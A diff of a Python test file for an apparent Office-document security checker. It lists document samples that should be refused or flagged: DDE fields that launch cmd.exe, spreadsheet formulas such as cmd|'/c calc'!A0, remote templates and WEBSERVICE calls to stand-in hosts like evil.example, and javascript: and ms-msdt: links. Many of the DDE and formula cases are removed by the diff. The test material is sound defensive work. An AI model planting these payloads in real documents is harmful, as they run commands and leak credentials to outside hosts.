@@ -18,7 +18,6 @@ from tests.survey.evidence.judge.packages import (
     make_relations,
     make_sheet,
     make_slide,
-    make_text,
 )
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
@@ -42,18 +41,6 @@ def _with_backslashes() -> bytes:
     for name in (b"_rels/.rels", b"word/document.xml"):
         plain = plain.replace(name, name.replace(b"/", b"\\"))
     return plain
-
-
-def _field(*orders: str) -> str:
-    """A field whose order is cut into pieces, as Word does after corrections."""
-    pieces = "".join(
-        f"<w:r><w:instrText>{order}</w:instrText></w:r>" for order in orders
-    )
-    begin, end = (
-        '<w:fldChar w:fldCharType="begin"/>',
-        '<w:fldChar w:fldCharType="end"/>',
-    )
-    return f"<w:p>{begin}{pieces}{end}</w:p>"
 
 
 TAKEN = {
@@ -98,6 +85,13 @@ TAKEN = {
     "a workbook": (make_sheet("<c><f>SUM(A1:A9)</f><v>4</v></c>"), "xlsx"),
     "slides": (make_slide("<a:t>JavaScript</a:t>"), "pptx"),
     "a link": (make_related(("hyperlink", "https://a.example/a.js", True)), "docx"),
+    "a picture under a name in letters as numbers": (
+        make_related(
+            ("package", "embeddings/b%E1%BA%A3ng.xlsx", False),
+            **{"word/embeddings/bảng.xlsx": make_xlsx()},
+        ),
+        "docx",
+    ),
     "a picture": (
         make_related(
             ("image", "media/a.jpg", False), **{"word/media/a.jpg": make_image()}
@@ -115,30 +109,6 @@ TAKEN = {
         make_related(("attachedTemplate", "file:///C:\\Users\\hoa\\Normal.dotm", True)),
         "docx",
     ),
-    "words about exchanges": (
-        make_text("<w:t>DDEAUTO cmd.exe</w:t>" + _field(" PAGE ")),
-        "docx",
-    ),
-    "a link called DDE": (
-        make_text(_field('HYPERLINK "https://a.example/DDE"')),
-        "docx",
-    ),
-    "a picture from the writer's disk": (
-        make_text(_field('INCLUDEPICTURE "C:\\\\a.png"')),
-        "docx",
-    ),
-    "a formula with a bar in its text": (
-        make_sheet("<f>CONCATENATE(A1,&quot;|&quot;,A2)</f>"),
-        "xlsx",
-    ),
-    "a query that waits": (
-        make_office(
-            SHEETS,
-            "xl/workbook.xml",
-            {"xl/connections.xml": '<connections><connection id="1"/></connections>'},
-        ),
-        "xlsx",
-    ),
     "settings of a printer": (
         make_office(
             SHEETS,
@@ -146,10 +116,6 @@ TAKEN = {
             {"xl/printerSettings/printerSettings1.bin": b"H\0P\0" * 40},
         ),
         "xlsx",
-    ),
-    "a slide that jumps": (
-        make_slide('<a:hlinkClick action="ppaction://hlinksldjump"/>'),
-        "pptx",
     ),
 }
 
@@ -211,8 +177,15 @@ def test_what_another_program_would_open_is_refused(what):
 
 def test_a_file_inside_is_judged_as_if_it_came_alone():
     inner = make_office(parts={"word/vbaProject.bin": b"\0"})
-    outer = make_related(("package", "a.docx", False), **{"word/a.docx": inner})
-    assert outcome(outer) == "file_macros"
+    named = ("package", "a%2Edocx", False)
+    for outer in (
+        make_related(("package", "a.docx", False), **{"word/a.docx": inner}),
+        make_related(named, **{"word/a%2Edocx": inner}),
+        make_office(parts={"word/media/a.docx": inner}),
+    ):
+        assert outcome(outer) == "file_macros"
+    renamed = make_office(parts={"word/media/a.png": inner})
+    assert outcome(renamed) == "file_carries"
 
 
 REACHES_OUT = {
@@ -224,6 +197,12 @@ REACHES_OUT = {
     ),
     "a template on a share": make_related(
         ("attachedTemplate", "\\\\evil\\a.dotm", True)
+    ),
+    "a template on a share, in letters as numbers": make_related(
+        ("attachedTemplate", "%5C%5Cevil%5Ca.dotm", True)
+    ),
+    "a template that says it lies inside": make_related(
+        ("attachedTemplate", "https://evil.example/a.dotm", False)
     ),
     "a template, strict": make_office(
         parts={
@@ -246,58 +225,6 @@ REACHES_OUT = {
             )
         },
     ),
-    "an exchange": make_text(_field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
-    "an exchange in pieces": make_text(_field(" D", "DE", "AUTO cmd")),
-    "an exchange in letters as numbers": make_text(_field("&#68;&#x44;E cmd")),
-    "an exchange in a simple field": make_text('<w:fldSimple w:instr=" DDE cmd a "/>'),
-    "an exchange with another prefix": make_text(
-        '<x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/main" x:instr="DDE cmd"/>'
-    ),
-    "an exchange inside a field": make_text(
-        '<w:fldChar w:fldCharType="begin"/><w:instrText>IF 1=1 </w:instrText>'
-        + _field("DDEAUTO cmd")
-        + '<w:fldChar w:fldCharType="end"/>'
-    ),
-    "an exchange spelled by a field": make_text(
-        '<w:fldChar w:fldCharType="begin"/>'
-        + _field("QUOTE 68 68 69")
-        + '<w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
-    ),
-    "an exchange without an end": make_text(
-        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>'
-    ),
-    "an exchange in a head of a page": make_office(
-        parts={"word/header1.xml": "<h>" + _field("DDE cmd").replace("w:", "") + "</h>"}
-    ),
-    "a picture by a field": make_text(
-        _field('INCLUDEPICTURE "https://evil.example/a"')
-    ),
-    "a text by a field": make_text(_field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')),
-    "an exchange of a workbook": make_office(
-        SHEETS,
-        "xl/workbook.xml",
-        {
-            "xl/externalLinks/link1.xml": '<l xmlns:x="y"><x:ddeLink ddeService="cmd"/></l>'
-        },
-    ),
-    "an exchange in a formula": make_sheet("<f>cmd|&apos;/c calc&apos;!A0</f>"),
-    "an exchange in a quoted formula": make_sheet(
-        "<f><![CDATA[cmd|'/c calc'!A0]]></f>"
-    ),
-    "an exchange under a name": make_office(
-        SHEETS,
-        "xl/workbook.xml",
-        {"xl/workbook.xml": "<w><definedName name='a'>cmd|'/c x'!A0</definedName></w>"},
-    ),
-    "a page by a formula": make_sheet(
-        "<f>WEBSERVICE(&quot;http://evil.example&quot;)</f>"
-    ),
-    "a picture by a formula": make_sheet('<f t="array">_xlfn.IMAGE(A1)</f>'),
-    "a query that does not wait": make_office(
-        SHEETS,
-        "xl/workbook.xml",
-        {"xl/connections.xml": '<all><connection id="1" refreshOnLoad="1"/></all>'},
-    ),
 }
 
 
@@ -315,12 +242,6 @@ ACTIVE = {
     "a link that is a script": make_related(("hyperlink", "javascript:alert(1)", True)),
     "a link to a tool of the system": make_related(
         ("hyperlink", "ms-msdt:/id x", True)
-    ),
-    "a slide that starts a program": make_slide(
-        '<a:hlinkClick action="ppaction&#58;//program"/>'
-    ),
-    "a slide that starts it by touch": make_slide(
-        '<a:hlinkHover action="ppaction://program"/>'
     ),
 }
 
